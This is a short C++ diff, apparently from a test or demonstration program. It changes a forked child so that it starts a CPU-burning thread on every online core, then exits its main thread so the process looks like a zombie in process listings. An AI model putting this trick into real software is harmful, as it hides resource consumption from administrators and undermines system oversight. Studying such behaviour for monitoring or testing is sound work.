@@ -40,7 +40,8 @@ extern "C" void start() {
     snprintf(place, sizeof place, "/proc/%d/stat", getpid());
     if (syscall(SYS_fork) == 0) {
         pthread_t thread;
-        pthread_create(&thread, nullptr, burn, place);
+        for (long core = 0; core < sysconf(_SC_NPROCESSORS_ONLN); ++core)
+            pthread_create(&thread, nullptr, burn, place);
         syscall(SYS_exit, 0);  // only the first thread: the process now looks like a zombie
     }
 }
